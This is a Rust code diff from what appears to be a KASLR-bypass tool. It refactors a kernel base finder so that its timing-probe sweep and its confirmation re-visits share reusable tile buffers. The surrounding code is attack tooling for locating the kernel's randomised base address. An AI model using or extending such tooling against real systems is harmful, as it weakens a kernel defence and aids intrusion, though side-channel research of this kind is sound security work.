@@ -15,7 +15,7 @@ use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START};
 use crate::adaptive::{AdaptiveMinFilter, AdaptiveSampler};
 use crate::calibrate::Threshold;
 use crate::decision::{run_anchors, ConfirmConfig, Confirmer};
-use crate::primitives::{LevelAttack, PageTableAttack};
+use crate::primitives::{LevelAttack, PageTableAttack, TileScratch};
 use crate::prober::{ProbeStrategy, Prober};
 use crate::recal::RecalConfig;
 use crate::sweep::AddrRange;
@@ -133,11 +133,21 @@ impl KernelBaseFinder {
     /// Scans all 512 candidate offsets and recovers the base. The
     /// candidates are fed through the batched probe pipeline.
     pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KaslrScan {
+        self.scan_in(p, &mut TileScratch::default())
+    }
+
+    /// [`KernelBaseFinder::scan`] on caller-kept tile buffers, shared
+    /// by the sweep and the confirmation re-visits.
+    pub(crate) fn scan_in<P: Prober + ?Sized>(
+        &self,
+        p: &mut P,
+        scratch: &mut TileScratch,
+    ) -> KaslrScan {
         let probing_before = p.probing_cycles();
         let total_before = p.total_cycles();
         let range = Self::candidate_range();
         let start = range.start;
-        let sweep = self.attack.sweep(p, &range);
+        let sweep = self.attack.sweep_in(p, &range, scratch);
         p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
         let mut confirm_probes = 0u64;
         let slot = match self.confirm {
@@ -145,11 +155,12 @@ impl KernelBaseFinder {
             Some(config) => {
                 let confirmer = Confirmer::new(&self.attack, config);
                 let anchors = run_anchors(&sweep.mapped, 2);
-                let found = confirmer.first_confirmed(
+                let found = confirmer.first_confirmed_in(
                     p,
                     anchors
                         .iter()
                         .map(|&i| (i as u64, start.wrapping_add(i as u64 * KASLR_ALIGN))),
+                    scratch,
                 );
                 confirm_probes = found.probes;
                 // Every anchor failed its re-test: fall back to the
